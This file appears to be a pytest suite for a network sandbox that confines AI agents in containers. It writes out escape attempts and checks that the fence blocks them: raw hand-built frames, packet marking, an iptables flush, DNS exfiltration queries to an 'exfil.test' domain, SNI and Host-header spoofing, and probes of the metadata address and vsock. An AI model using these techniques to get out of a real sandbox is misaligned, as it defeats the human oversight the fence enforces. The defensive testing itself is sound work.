"""What an agent or its surroundings may try over time, each with the reason it is tried for.

Where a scenario is about something that the fence does without (default capabilities, the engine's own networks), a
container without a fence shows that the danger is real.
"""

from __future__ import annotations

import re
import threading
from pathlib import Path

import docker.errors
import pytest

from assay.model.errors import EngineError
from assay.run.launch import ROOT_CAPS
from assay.sandbox.fence import AT_ONCE
from assay.sandbox.rules import CLOSED, OPEN, SNI, Pin
from assay.sandbox.seccomp import profile
from tests.fence.conftest import Lab, tar

pytestmark = [pytest.mark.docker, pytest.mark.timeout(120)]

LOOP = """
import socket, time
end, got, refused = time.monotonic() + {seconds}, 0, 0
while time.monotonic() < end and refused <= {enough}:
    try:
        socket.create_connection(({other!r}, 443), 0.5).close()
        got += 1
    except ConnectionRefusedError:
        refused += 1
    except OSError:
        pass
print("got", got, "refused", refused > 10)
"""

FRAME = """
import socket, struct, sys
source, to, port, mac = sys.argv[1], sys.argv[2], int(sys.argv[3]), bytes.fromhex(sys.argv[4])
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
out.bind(("eth0", 0))
udp = struct.pack(">HHHH", 40000, port, 8 + 5, 0) + b"frame"
ends = socket.inet_aton(source) + socket.inet_aton(to)
head = struct.pack(">BBHHHBBH8s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, ends)
total = sum(struct.unpack(">10H", head))
total = (total & 0xFFFF) + (total >> 16)
total = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
head = head[:10] + struct.pack(">H", total) + head[12:]
out.send(mac + out.getsockname()[4] + b"\\x08\\x00" + head + udp)
print("frame left")
"""

MARK = """
import socket
one = socket.socket()
try:
    one.setsockopt(socket.SOL_SOCKET, 36, 1)
    print("mark set")
except OSError as error:
    print(error)
"""

KEEP = """
import ssl, socket, sys
context = ssl.create_default_context(cafile="/ca.pem")
one = context.wrap_socket(socket.create_connection((sys.argv[1], 443)), server_hostname="api.vendor.test")
one.settimeout(3)
def call():
    try:
        one.sendall(b"GET /kept HTTP/1.1\\r\\nHost: api.vendor.test\\r\\n\\r\\n")
        return one.recv(100)[:12].decode()
    except OSError as error:
        return type(error).__name__
print(call(), flush=True)
sys.stdin.readline()
print(call(), flush=True)
"""


def test_the_first_instruction_finds_the_rules_in_place(lab: Lab) -> None:
    with (
        lab.fence() as fence,
        lab.agent(fence, ("python3", "-c", LOOP.format(other=lab.outside.other, seconds=1, enough=1e9))) as agent,
    ):
        assert lab.output(agent) == "got 0 refused True\n"


def test_rules_that_come_after_the_agent_come_too_late(lab: Lab) -> None:
    """The same loop where rules are set from beside it, with nothing that holds the agent back until they stand."""
    rule = (
        "iptables",
        "-A",
        "OUTPUT",
        "-d",
        lab.outside.other,
        "-p",
        "tcp",
        "-j",
        "REJECT",
        "--reject-with",
        "tcp-reset",
    )
    loop = LOOP.format(other=lab.outside.other, seconds=60, enough=20)
    with lab.container("bridge", ("python3", "-c", loop)) as unwise:
        with lab.container(f"container:{unwise}", rule, caps=("NET_ADMIN", "NET_RAW")) as helper:
            assert lab.output(helper) == ""
        assert re.fullmatch(r"got [1-9]\d* refused True\n", lab.output(unwise))


def test_an_agent_cannot_start_before_its_fence(lab: Lab) -> None:
    with lab.fence() as fence:
        fence.engine.signal(fence.network.removeprefix("container:"), "KILL")
        fence.engine.wait(fence.network.removeprefix("container:"))
        with lab.agent(fence, start=False) as agent, pytest.raises(EngineError, match="non running container"):
            lab.engine.start(agent)


def frame(lab: Lab, container: str, source: str, port: int) -> str:
    mac = Path("/sys/class/net/docker0/address").read_text().strip().replace(":", "")
    argv = ["python3", "-c", FRAME, source, lab.outside.other, str(port), mac]
    return lab.engine.run_in(container, argv)[1].decode()


def test_a_raw_frame_would_pass_every_rule_so_no_agent_can_make_one(lab: Lab) -> None:
    with lab.fence() as fence:
        source = lab.engine.address(fence.network.removeprefix("container:"))
        before = len(lab.outside.seen)
        with lab.container(fence.network, caps=(*ROOT_CAPS, "NET_RAW")) as unwise:
            assert "frame left" in frame(lab, unwise, source, 123)
            lab.outside.wait_for("UDP 123 b'frame'")
        with lab.agent(fence) as agent:
            assert "PermissionError" in frame(lab, agent, source, 53)
        # What was sent later has arrived, so the frame would have.
        with lab.container("bridge") as outsider:
            lab.shell(outsider, f"echo later | nc -u -w1 {lab.outside.other} 443")
            lab.outside.wait_for("UDP 443 b'later")
        assert not [line for line in lab.outside.seen[before:] if line.startswith("UDP 53")]


def test_a_raw_ip_socket_is_not_made(lab: Lab) -> None:
    program = "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)"
    with lab.fence() as fence, lab.agent(fence) as agent:
        assert "PermissionError" in lab.shell(agent, f"python3 -c '{program}'")


def test_packets_cannot_be_marked(lab: Lab) -> None:
    """NET_RAW alone is enough to mark packets (since Linux 5.17), and marks are what other fences exempt proxies by."""
    with lab.fence() as fence, lab.agent(fence) as agent:
        assert "not permitted" in lab.engine.run_in(agent, ["python3", "-c", MARK])[1].decode()
    with lab.container("none", caps=("NET_RAW",)) as unwise:
        assert lab.engine.run_in(unwise, ["python3", "-c", MARK])[1] == b"mark set\n"


@pytest.mark.parametrize("mode", [CLOSED, OPEN])
def test_nobody_connects_in(lab: Lab, mode: str) -> None:
    """An open neighbour could otherwise relay. The host tries, and so does a container."""
    server = ("python3", "-m", "http.server", "9000")
    with lab.fence(mode) as fence, lab.agent(fence, server) as agent, lab.container("bridge") as neighbour:
        address = lab.engine.address(fence.network.removeprefix("container:"))
        wait = "for k in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:9000/ && break; sleep .1; done; echo up"
        assert lab.shell(agent, wait) == "up\n"
        assert lab.shell(neighbour, f"curl -s -m2 http://{address}:9000/; echo rc=$?") == "rc=28\n"
        assert lab.shell(neighbour, f"ping -c1 -W1 {address} >/dev/null; echo rc=$?") == "rc=1\n"


def test_a_process_that_is_added_later_can_do_no_more(lab: Lab) -> None:
    with lab.fence() as fence, lab.agent(fence) as agent:
        assert "rc=4" in lab.shell(agent, "iptables -F; echo rc=$?")
        assert lab.shell(agent, f"curl -sk -m5 https://{lab.outside.other}/; echo rc=$?") == "rc=7\n"
        bounding = lab.shell(agent, "grep CapBnd /proc/self/status | cut -f2")
        assert not int(bounding, 16) & (1 << 12 | 1 << 13 | 1 << 21)


def test_a_container_that_fences_itself_is_open_to_whatever_is_added_later(lab: Lab) -> None:
    """Capabilities that a container's first process lays down come back with each process that the engine adds."""
    down = "grep CapBnd /proc/self/status | cut -f2 >/tmp/down; mv /tmp/down /down; sleep 600"
    fenced = "iptables -A OUTPUT -d {0} -p tcp -j REJECT --reject-with tcp-reset &&"
    fenced += " exec capsh --drop={1} -- -c '{2}'"
    argv = ("bash", "-c", fenced.format(lab.outside.other, "cap_net_admin,cap_net_raw", down))
    call = f"curl -sk -m5 https://{lab.outside.other}/ >/dev/null; echo rc=$?"
    with lab.container("bridge", argv, caps=(*ROOT_CAPS, "NET_ADMIN", "NET_RAW")) as unwise:
        assert lab.shell(unwise, f"until [ -e /down ]; do sleep .05; done; {call}") == "rc=7\n"
        first = int(lab.shell(unwise, "cat /down"), 16)
        assert not first & (1 << 12 | 1 << 13)
        assert lab.shell(unwise, f"iptables -F; echo rc=$?; {call}") == "rc=0\nrc=0\n"


def test_the_engines_resolver_carries_names_out_but_not_from_here(lab: Lab) -> None:
    ask = "dig +time=1 +tries=1 @127.0.0.11 {0}.exfil.test >/dev/null; getent hosts {0}2.exfil.test; true"
    with lab.bridge() as made:
        with lab.container(made, dns=(lab.outside.other,)) as open_one:
            lab.shell(open_one, ask.format("unfenced"))
        lab.outside.wait_for("unfenced")
        before = len(lab.outside.seen)
        with lab.fence(where=made) as fence, lab.agent(fence) as agent:
            lab.shell(agent, ask.format("fenced"))
            assert set(fence.report().names_refused) == {"fenced2.exfil.test"}
        assert not [line for line in lab.outside.seen[before:] if "exfil" in line]


TOOLS = {
    "pip": ("pip install -q --target /tmp/t six==1.16.0", 1),
    "npm": ("cd /tmp && npm install left-pad", 1),
    "apt-get": ("apt-get -o Acquire::Retries=0 update", 0),
    "git": ("git clone https://code.test/x/y /tmp/y", 128),
    "curl": ("curl -s https://code.test/", 6),
}
"""How each of them gives up; apt-get does so quietly."""


@pytest.mark.parametrize("tool", TOOLS)
def test_package_tools_give_up_in_seconds(lab: Lab, tool: str) -> None:
    """With a run's settings and with no other, so that a missing package costs an agent seconds of its time."""
    command, code = TOOLS[tool]
    with lab.fence() as fence, lab.agent(fence, env=AT_ONCE) as agent:
        took = float(lab.shell(agent, f"( {command} ) >/dev/null 2>&1 </dev/null; echo $? >/tmp/rc; echo $SECONDS"))
        assert lab.shell(agent, "cat /tmp/rc") == f"{code}\n"
        assert set(fence.report().names_refused)
    # Alone, npm as it comes takes 72 s, pip 9 s and these 2 s at most; other tests may be at work on the same cores.
    assert took < 20


def test_an_internal_network_alone_is_no_fence(lab: Lab) -> None:
    """The host answers in it, and the outside is a wait instead of the prompt refusal that a tool needs."""
    near = f"curl -s -m2 http://{lab.outside.host}:{lab.host_port}/; echo rc=$?"
    far = f"curl -s -m2 http://{lab.outside.other}/; echo rc=$?"
    with lab.bridge(internal=True) as made:
        with lab.container(made) as inside:
            assert lab.shell(inside, f"{near}; {far}") == "the host itselfrc=0\nrc=28\n"
        with lab.fence(where=made) as fence, lab.agent(fence) as agent:
            assert lab.shell(agent, f"{near}; {far}") == "rc=7\nrc=7\n"


def test_a_connection_does_not_outlive_its_pin(lab: Lab) -> None:
    with lab.fence(backend="nft") as fence, lab.agent(fence, ("sleep", "100")) as agent:
        lab.engine.put(agent, tar({"keep.py": KEEP.encode()}))
        start = f"python3 /keep.py {lab.outside.vendor} <&3 >/tmp/out 2>&1"
        wait = "while [ ! -e /tmp/go ]; do sleep .05; done; echo"
        held = threading.Thread(target=lab.shell, args=(agent, f"exec 3< <({wait}); {start}"))
        held.start()
        lines = (
            "for k in $(seq 99); do [ $(grep -c . /tmp/out) = {0} ] && break; sleep .05; done 2>/dev/null; cat /tmp/out"
        )
        assert lab.shell(agent, lines.format(1)) == "HTTP/1.1 200\n"
        fenced = fence.network.removeprefix("container:")
        for chain, place in (("OUTPUT", "3"), ("INPUT", "2")):
            assert lab.engine.run_in(fenced, ["iptables-nft", "-D", chain, place])[0] == 0
        lab.shell(agent, "touch /tmp/go")
        held.join()
        assert lab.shell(agent, "tail -1 /tmp/out") in (
            "TimeoutError\n",
            "ConnectionRefusedError\n",
            "ConnectionResetError\n",
            "\n",
        )


def test_an_ipv6_pin_works_and_nothing_beside_it(lab: Lab) -> None:
    with lab.fence(where=lab.network6) as fence, lab.agent(fence) as agent:
        assert "host=api.vendor.test" in lab.shell(agent, "curl -s6 -m5 --cacert /ca.pem https://api.vendor.test/")
        assert lab.shell(agent, f"curl -sgk6 -m5 'https://[{lab.outside.other6}]/'; echo rc=$?") == "rc=7\n"
        with lab.container(lab.network6, ("python3", "-m", "http.server", "8080", "--bind", "::")) as neighbour:
            networks = lab.engine.inspect(neighbour)["NetworkSettings"]["Networks"].values()
            six = next(network["GlobalIPv6Address"] for network in networks)
            link = lab.shell(
                neighbour, "ip -6 -br addr show dev eth0 scope link | awk '{print $3}' | cut -d/ -f1"
            ).strip()
            wait = "for k in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:8080/ && break; sleep .1; done"
            lab.shell(neighbour, wait)
            sockets = f"python3 /probe/sockets.py {lab.outside.other} {lab.outside.vendor} {lab.gateway} {lab.sibling}"
            tried = f"{sockets} {six} {link} | grep 6_"
            fenced = dict(line.split() for line in lab.shell(agent, tried).splitlines())
            with lab.container(lab.network6) as open_one:
                free = dict(line.split() for line in lab.shell(open_one, tried).splitlines())
        assert fenced == {
            "echo6_loopback": "ANSWERED",
            "echo6_other": "TIMEOUT",
            "echo6_all_nodes": "TIMEOUT",
            "udp6_all_nodes": "EPERM",
            "tcp6_other": "ECONNREFUSED",
            "tcp6_link_local": "ECONNREFUSED",
        }
        assert free["echo6_other"] == free["echo6_all_nodes"] == "ANSWERED"
        assert free["tcp6_link_local"] == "CONNECTED"


GATED = {
    "the vendor's name": ("https://api.vendor.test/", "host=api.vendor.test rc=0"),
    "another name": ("--connect-to other.test:443:api.vendor.test:443 https://other.test/", "rc=(35|52|56)"),
    "no name at all": ("-k --connect-to 198.51.100.99:443:api.vendor.test:443 https://198.51.100.99/", "rc=(35|52|56)"),
    "plain text": ("http://api.vendor.test:443/", "rc=(52|56)"),
    "the vendor directly": ("-k --resolve api.vendor.test:443:{vendor} https://api.vendor.test/", "rc=7"),
    # What no look at the hello can see, and the README says so.
    "another name inside": ("-H 'Host: other.test' https://api.vendor.test/", "host=other.test rc=0"),
}


def test_the_gate_passes_the_vendors_name_only(lab: Lab) -> None:
    with lab.fence(SNI) as fence, lab.agent(fence) as agent:
        for what, (arguments, expected) in GATED.items():
            arguments = arguments.format(vendor=lab.outside.vendor)
            said = lab.shell(agent, f"curl -s -m5 --cacert /ca.pem {arguments}; echo rc=$?").split()
            assert re.fullmatch(expected, " ".join(said)), what
        report = fence.report()
    assert report.servers_refused == {"other.test": 1, "-": 2}
    assert report.addresses_refused == {f"tcp {lab.outside.vendor}:443": 1}


def test_a_neighbours_gate_is_no_way_out(lab: Lab) -> None:
    mine = (Pin("auth.vendor.test", (lab.outside.second,), private=True),)
    with lab.fence(SNI) as theirs, lab.fence(pins=mine) as fence, lab.agent(fence) as agent:
        gate = lab.engine.address(f"{theirs.name}-gate")
        assert (
            lab.shell(agent, f"curl -sk -m5 --resolve api.vendor.test:443:{gate} https://api.vendor.test/; echo rc=$?")
            == "rc=7\n"
        )


def test_the_hypervisors_socket_is_closed(lab: Lab) -> None:
    program = "import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); print('made')"
    with lab.container("none", user="1000:1000", seccomp=profile()) as closed:
        assert "PermissionError" in lab.shell(closed, f'python3 -c "{program}"')


def test_no_second_network_can_be_given_to_an_agent(lab: Lab) -> None:
    refused = pytest.raises(docker.errors.APIError, match="container sharing network namespace")
    with lab.fence() as fence, lab.agent(fence) as agent, refused:
        lab.engine.api.connect_container_to_network(agent, "bridge")


def test_two_runs_side_by_side_do_not_meet(lab: Lab) -> None:
    server = ("python3", "-m", "http.server", "9000")
    with lab.fence() as one, lab.fence() as two, lab.agent(one, server), lab.agent(two) as agent:
        address = lab.engine.address(one.network.removeprefix("container:"))
        assert lab.shell(agent, f"curl -s -m5 http://{address}:9000/; echo rc=$?") == "rc=7\n"
        lab.shell(agent, "getent hosts mine.test")
        assert set(two.report().names_refused) == {"mine.test"}
        assert not one.report().names_refused


def test_open_reaches_the_internet_and_nothing_near(lab: Lab) -> None:
    lab_networks = (lab.outside.network, lab.outside.network6)
    with lab.fence(OPEN, pins=(), lab=lab_networks) as fence, lab.agent(fence) as agent:
        assert "rc=0" in lab.shell(agent, f"curl -sk -m5 https://{lab.outside.other}/; echo rc=$?")
        assert "PONG" in lab.shell(agent, f"echo PONG | nc -u -w1 {lab.outside.other} 443")
        assert "rc=0" in lab.shell(agent, f"ping -c1 -W2 {lab.outside.other}; echo rc=$?")
        near = (f"{lab.gateway}:{lab.host_port}", f"{lab.outside.host}:{lab.host_port}", f"{lab.sibling}:8080")
        for place in (*near, "169.254.169.254", "10.0.0.1", "192.168.0.1", "127.0.0.11:53"):
            assert lab.shell(agent, f"curl -s -m5 http://{place}/; echo rc=$?") == "rc=7\n", place
        report = fence.report()
    assert report.mode == OPEN
    assert report.addresses_refused[f"tcp {lab.outside.host}:{lab.host_port}"] == 1


def test_open_looks_names_up_by_the_engines_resolvers(lab: Lab) -> None:
    """A network of the engine's own has 127.0.0.11 alone; there the pretend internet's sink is behind it."""
    with lab.fence(OPEN, pins=lab.pins) as fence, lab.agent(fence) as agent:
        assert lab.shell(agent, "grep -c . /etc/resolv.conf; getent hosts api.vendor.test").startswith("2\n198.51.100.")
        lab.shell(agent, "getent hosts some.name.test; dig +tcp +time=2 +tries=1 other.name.test")
        report = fence.report()
    assert report.names_asked["some.name.test"] >= 1
    assert report.names_refused == {}
